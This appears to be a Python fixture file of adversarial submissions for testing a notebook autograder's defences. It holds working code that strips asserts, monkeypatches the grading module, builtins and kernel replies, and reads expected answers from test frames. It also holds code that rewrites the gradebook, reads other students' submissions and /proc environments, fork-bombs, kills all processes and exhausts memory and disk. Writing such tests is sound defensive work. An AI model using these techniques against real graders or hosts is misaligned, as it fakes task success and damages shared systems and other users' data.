"""Submissions that try to get points, or more, without an answer: name -> cells before the tests.

Every one answers wrongly: `double` gives three times its argument, `square` gives None, unless
the attack itself is in them. What is known of the course by its root is known to the attacker.
"""

#: The exercises of the course that is attacked.
EXERCISES = [
    (
        "double",
        "def double(x):\n    return 2 * x",
        "from autograder import expect\n"
        "inputs = int(expect.generator().integers(100, 200))\n"
        "right = inputs + inputs\n"
        'expect.integer(expect.call("double", inputs), equals=right, name="double(x)")',
        2,
    ),
    ("square", "def square(x):\n    return x * x", "assert square(3) == 9", 3),
]

WRONG = "def double(x):\n    return 3 * x\n\ndef square(x):\n    return None"

#: Attacks on what decides the verdict. None may raise a score, whatever the mode.
VERDICT = {
    "asserts-stripped": """
import ast
class Strip(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
get_ipython().ast_transformers.append(Strip())
""",
    "asserts-stripped-and-exit": """
import ast
class Strip(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
get_ipython().ast_transformers.append(Strip())
import os
get_ipython().events.register("post_run_cell", lambda result: (
    os._exit(0) if "square(3)" in (result.info.raw_cell or "") else None))
""",
    "lines-removed": """
get_ipython().input_transformers_post.append(
    lambda lines: [line for line in lines if "assert" not in line and "expect." not in line])
""",
    "expect-functions-replaced": """
from autograder import expect
for name in ("that", "call", "raises", "array", "integer", "shape", "instance", "plain"):
    setattr(expect, name, lambda *args, **kwargs: None)
""",
    "expect-code-replaced": """
from autograder import expect
expect.that.__code__ = (lambda condition, message: None).__code__
expect._check_value.__code__ = (lambda a, b, c, d, equal=None: None).__code__
""",
    "expect-module-replaced": """
import sys, types
import autograder.expect
fake = types.ModuleType("autograder.expect")
fake.call = fake.integer = lambda *args, **kwargs: None
fake.generator = autograder.expect.generator
sys.modules["autograder.expect"] = fake
autograder.expect = fake
""",
    "import-hook": """
import importlib.abc, importlib.util, sys
class Fake(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path, target=None):
        if name == "autograder.expect":
            return importlib.util.spec_from_loader(name, self)
    def exec_module(self, module):
        import numpy
        module.call = module.integer = lambda *args, **kwargs: None
        module.generator = numpy.random.default_rng
sys.modules.pop("autograder.expect", None)
import autograder
autograder.__dict__.pop("expect", None)
sys.meta_path.insert(0, Fake())
""",
    "wrong-answer-cannot-be-raised": """
from autograder import expect
class Harmless(BaseException):
    def __new__(cls, *args):
        raise StopIteration
expect.WrongAnswer = Harmless
import builtins
builtins.AssertionError = Harmless
""",
    "builtins-replaced": """
import builtins
builtins.type = lambda value, *rest: int
builtins.isinstance = lambda *args: True
builtins.callable = lambda value: True
builtins.int = lambda *args: 8
""",
    "operator-replaced": """
import operator, _operator
operator.eq = _operator.eq = lambda a, b: True
""",
    "numpy-replaced": """
import numpy as np
np.array_equal = np.allclose = np.all = lambda *args, **kwargs: True
np.testing.assert_array_equal = np.testing.assert_allclose = lambda *args, **kwargs: None
""",
    "run-cell-replaced": """
shell = get_ipython()
real = shell.run_cell
shell.run_cell = lambda source, *args, **kwargs: real(
    "pass" if "assert" in source or "expect" in source else source, *args, **kwargs)
""",
    "kernel-replies-ok": """
kernel = get_ipython().kernel
async def do_execute(code, *args, **kwargs):
    return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
kernel.do_execute = do_execute
""",
    "kernel-skips-tests": """
kernel = get_ipython().kernel
real = kernel.do_execute
async def do_execute(code, *args, **kwargs):
    if "_aside" in code or "assert" not in code and "expect" not in code:
        return await real(code, *args, **kwargs)
    return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
kernel.do_execute = do_execute
""",
    "no-traceback": """
shell = get_ipython()
shell.showtraceback = shell.showsyntaxerror = lambda *args, **kwargs: None
shell._showtraceback = lambda *args, **kwargs: None
""",
    "exceptions-swallowed": """
get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)
import sys
sys.excepthook = lambda *args: None
""",
    "result-cleaned": """
from IPython.core.interactiveshell import ExecutionResult
ExecutionResult.success = property(lambda self: True)
ExecutionResult.error_in_exec = property(lambda self: None, lambda self, value: None)
ExecutionResult.error_before_exec = property(lambda self: None, lambda self, value: None)
get_ipython().showtraceback = lambda *args, **kwargs: None
""",
    "hook-clears-result": """
def clear(result):
    result.error_in_exec = None
    result.result = 2
get_ipython().events.register("post_run_cell", clear)
""",
    "forged-result": """
def forge(info):
    kernel = get_ipython().kernel
    kernel.session.send(
        kernel.iopub_socket, "execute_result",
        {"data": {"text/plain": "2"}, "metadata": {}, "execution_count": 1},
        parent=kernel.get_parent(), ident=b"execute_result")
get_ipython().events.register("pre_run_cell", forge)
""",
    "forged-reply": """
kernel = get_ipython().kernel
real = kernel.session.send
def send(stream, what, content=None, *args, **kwargs):
    if what == "error":
        return None
    if what == "execute_reply":
        content = {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
    return real(stream, what, content, *args, **kwargs)
kernel.session.send = send
""",
    "forged-control": """
import re, sys
real = get_ipython().run_cell
def forge(source, *args, **kwargs):
    frame = sys._getframe(1)
    token = frame.f_locals.get("token") or ""
    print("\\n" + token + "[" + ", ".join(["false"] * 20) + "]")
    return real("pass")
get_ipython().run_cell = forge
""",
    "display-hook-scores": """
import sys
sys.displayhook = lambda value: print("2")
get_ipython().displayhook.write_format_data = lambda *args, **kwargs: None
print(2)
""",
    "huge-score": "100000",
    "nan-score": 'float("nan")',
    "system-exit": "def square(x):\n    raise SystemExit(0)",
    "keyboard-interrupt": "def square(x):\n    raise KeyboardInterrupt",
    "exception-group": (
        "def square(x):\n    try:\n        raise ExceptionGroup('', [ValueError()])\n"
        "    except ExceptionGroup:\n        raise SystemExit"
    ),
    "exits-in-the-answer": "import os\ndef double(x):\n    os._exit(0)\nsquare = double",
    "exec-replaces-itself": (
        "import os, sys\ndef double(x):\n    os.execv(sys.executable, [sys.executable, '-c', ''])"
    ),
    "thread-kills-the-control": """
import os, sys, threading, time
here = sys.modules["__main__"]
def wait():
    while sys.modules["__main__"] is here:
        time.sleep(0.001)
    os._exit(0)
from autograder import expect
expect.that.__code__ = (lambda condition, message: None).__code__
expect._check_value.__code__ = (lambda a, b, c, d, equal=None: None).__code__
threading.Thread(target=wait, daemon=True).start()
""",
    "equals-everything": """
class Anything(int):
    __eq__ = lambda self, other: True
    __hash__ = int.__hash__
def double(x):
    return Anything(x)
""",
    "lies-about-its-class": """
class Liar:
    __class__ = int
    def __int__(self):
        return 8
    def __eq__(self, other):
        return True
def double(x):
    return Liar()
""",
    "namespace-rewritten": """
import autograder, sys
real = expect.generator
class Fake:
    def __getattr__(self, name):
        return real if name == "generator" else lambda *args, **kwargs: None
get_ipython().push({"expect": Fake()})
sys.modules["autograder.expect"] = autograder.expect = expect
""",
    "settrace-returns-early": """
import sys
def trace(frame, event, argument):
    if frame.f_code.co_name == "_check_value":
        frame.f_locals["right"] = frame.f_locals.get("got")
    return trace
sys.settrace(trace)
""",
    "test-source-read": """
import re
def read(info):
    found = re.search(r"right = (.*)", info.raw_cell or "")
    if found:
        expression = found.group(1)
        globals()["double"] = lambda x: int(eval(expression, {"inputs": x}))
get_ipython().events.register("pre_run_cell", read)
""",
}

#: Attacks that take the expected value from the test's own frames, or lie to a bare `assert`. The
#: process that runs both cannot prevent it: they raise a score beside the answer, and only there.
BESIDE_ONLY = {
    "frame-read": """
import sys
def double(x):
    frame = sys._getframe()
    while frame:
        if "right" in frame.f_locals:
            return frame.f_locals["right"]
        frame = frame.f_back
    return None
""",
    "garbage-collector-read": """
import gc, types
def double(x):
    for found in gc.get_objects():
        if type(found) is dict and "right" in found and "inputs" in found:
            return int(found["right"])
    return None
""",
    "equals-everything-in-a-plain-assert": """
class Anything(int):
    __eq__ = lambda self, other: True
    __hash__ = int.__hash__
def square(x):
    return Anything(x)
""",
}

#: Attacks on what is outside. `{root}` is the course's folder, `{outside}` one that all may write.
OUTSIDE = {
    "opens-the-gradebook": """
import sqlite3
for path in ("../../../gradebook.db", "{root}/gradebook.db"):
    base = sqlite3.connect(path)
    base.execute("update grade set manual_score = 99")
    base.commit()
""",
    "reads-the-source": 'print(open("{root}/source/ps1/ps1.ipynb").read())',
    "reads-another-submission": 'print(open("{root}/submitted/victim/ps1/ps1.ipynb").read())',
    "writes-another-submission": """
import pathlib
pathlib.Path("{root}/submitted/victim/ps1/ps1.ipynb").write_text("gone")
""",
    "writes-by-symlink": """
import os
os.symlink("{root}/gradebook.db", "link")
open("link", "w").write("gone")
""",
    "writes-by-hard-link": """
import os
os.link("{root}/gradebook.db", "link")
open("link", "w").write("gone")
""",
    "rewrites-its-notebook": """
import pathlib
for path in pathlib.Path().glob("*.ipynb"):
    path.write_text("gone")
pathlib.Path("ps1.ipynb").write_text("planted")
""",
    "plants-files": """
import os, pathlib
for folder in ("{outside}", "/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~")):
    pathlib.Path(folder, "planted-by-attack").write_text("planted")
""",
    "plants-a-startup-file": """
import os, pathlib
for folder in (os.path.expanduser("~/.ipython/profile_default/startup"), "{outside}"):
    pathlib.Path(folder).mkdir(parents=True, exist_ok=True)
    pathlib.Path(folder, "00-planted.py").write_text("planted = True")
""",
    "changes-the-package": """
import autograder.expect
open(autograder.expect.__file__, "a").write("\\n# planted-by-attack\\n")
""",
    "connects": """
import socket
socket.create_connection(("127.0.0.1", {port}), timeout=1).send(b"caught")
""",
    "signals-everybody": """
import os, signal
os.kill(os.getppid(), signal.SIGKILL)
""",
    "signals-all": "import os, signal\nos.kill(-1, signal.SIGKILL)",
    "leaves-a-daemon": """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            time.sleep(1)
    os._exit(0)
""",
    "forks-for-ever": """
import os, time
try:
    while True:
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
except OSError:
    pass
""",
    "reads-other-processes": """
import os, pathlib
for path in pathlib.Path("/proc").glob("[0-9]*"):
    for what in ("environ", "root{root}/gradebook.db"):
        if path.name != str(os.getpid()):
            try:
                print((path / what).read_bytes()[:4000])
            except OSError:
                pass
""",
    "fills-memory": "hoard = bytearray(400 * 2**20)\nhoard[::4096] = b'x' * len(hoard[::4096])",
    "fills-the-disk": """
with open("big", "wb") as file:
    while True:
        file.write(b"x" * 2**20)
""",
}


#: Attacks on the limit of memory, for one of 400 MiB: what Linux holds for a process is not only
#: its pages. Each prints "held" if it could hold more than twice that.
MEMORY = {
    "page-tables": """
import mmap, time
flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000  # without reserving anything
wide = mmap.mmap(-1, 2**39, flags=flags, prot=mmap.PROT_READ)
for page in range(0, 2**39, 2**21):
    wide[page]
time.sleep(1)
print("held")
""",
    "socket-buffers": """
import os, socket, time
def fill():
    pairs = []
    try:
        while True:
            pairs.append(socket.socketpair())
            for end in pairs[-1]:
                end.setblocking(False)
                try:
                    end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**20)
                except OSError:
                    pass
                try:
                    while True:
                        end.send(bytes(32 * 1024))
                except BlockingIOError:
                    pass
    except OSError:
        return pairs
for _ in range(30):
    if os.fork() == 0:
        kept = fill()
        time.sleep(60)
        os._exit(0)
time.sleep(5)
print("held")
""",
    "deleted-open-files": """
import os, time
kept = []
for folder in (".", "/dev/shm"):
    try:
        while True:
            kept.append(open(os.path.join(folder, "gone"), "wb", buffering=0))
            os.unlink(kept[-1].name)
            for _ in range(16):
                kept[-1].write(bytes(2**20))
    except OSError:
        pass
hoard = b"x" * (250 * 2**20)
time.sleep(1)
print("held")
""",
    "behind-a-dead-leader": """
import ctypes, os, threading, time
def hoard():
    time.sleep(0.3)
    kept = []
    for _ in range(1000):
        kept.append(b"x" * 2**20)
    time.sleep(60)
if os.fork() == 0:
    threading.Thread(target=hoard).start()
    ctypes.CDLL(None).syscall(60 if os.uname().machine == "x86_64" else 93, 0)  # only this thread
time.sleep(5)
print("held")
""",
    "mappings": """
import ctypes, os, time
libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t] + [ctypes.c_int] * 3 + [ctypes.c_long]
libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
start = libc.mmap(None, 2**32, 0, 0x4022, -1, 0)
for page in range(30_000):
    libc.mprotect(start + 8192 * page, 4096, 1)
for number in range(80):
    if os.fork() == 0:
        time.sleep(60)
        os._exit(0)
time.sleep(3)
print("held")
""",
}

#: Messages that are no output, but large: a comment to nobody, a reply, one of many parts.
MESSAGES = {
    "comments": """
kernel = get_ipython().kernel
big = "x" * (57 * 2**20)
while True:
    kernel.session.send(
        kernel.iopub_socket, "comm_msg", {"data": big}, parent=kernel.get_parent(), ident=b"comm")
""",
    "a-reply": """
kernel = get_ipython().kernel
real = kernel.session.send
def send(stream, what, content=None, *args, **kwargs):
    if what == "execute_reply":
        content = content | {"payload": [{"text": "x" * (57 * 2**20)}]}
    return real(stream, what, content, *args, **kwargs)
kernel.session.send = send
""",
    "parts": """
import time
big = bytes(50 * 2**20)
get_ipython().kernel.iopub_socket.send_multipart([b"topic"] + [big] * 30, copy=False)
time.sleep(100)
""",
}
